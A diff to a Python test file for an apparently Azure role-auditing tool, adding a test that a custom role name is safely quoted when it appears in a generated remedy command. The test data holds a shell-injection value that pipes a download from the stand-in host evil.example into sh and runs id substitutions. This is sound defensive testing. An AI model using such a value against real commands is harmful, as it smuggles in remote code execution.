@@ -1,5 +1,6 @@
 """People: whom the policy means, what they hold, what the app may give them; and what custom roles give away."""
 
+import shlex
 from collections.abc import Mapping
 from typing import Any
 
@@ -223,3 +224,20 @@ def test_nobody_can_score_unless_a_person_or_group_holds_a_role() -> None:
         ("ServicePrincipal", DATA_SCIENTIST, True),
     ):
         assert bool(asks(seen(kind, role_id), "endpoint-scorers")) is nobody
+
+
+def test_a_name_in_a_remedy_runs_nothing() -> None:
+    """People paste remedies, and whoever owns a resource group names custom roles as they like."""
+    name = 'scorer"; curl evil.example | sh; "$(id)`id`'
+    custom_role = {
+        "id": f"{SUBSCRIPTION}/providers/Microsoft.Authorization/roleDefinitions/{guid('r')}",
+        "properties": {
+            "roleName": name,
+            "permissions": [{"actions": ["Microsoft.MachineLearningServices/workspaces/onlineEndpoints/*/action"]}],
+        },
+    }
+    want = Want(SUBSCRIPTION, "Microsoft.Authorization/roleDefinitions?$filter=type%20eq%20'CustomRole'")
+    seen = estate(workspace(endpoint("e", sai("e"))), facts={want: (custom_role,)})
+    (found,) = [one for one in plan(seen, terms()).findings if one.rule == "custom-role-keys"]
+    command = found.remedy.partition("notActions: ")[2].partition(" > role.json")[0]
+    assert shlex.split(command)[-2:] == ["--name", name]
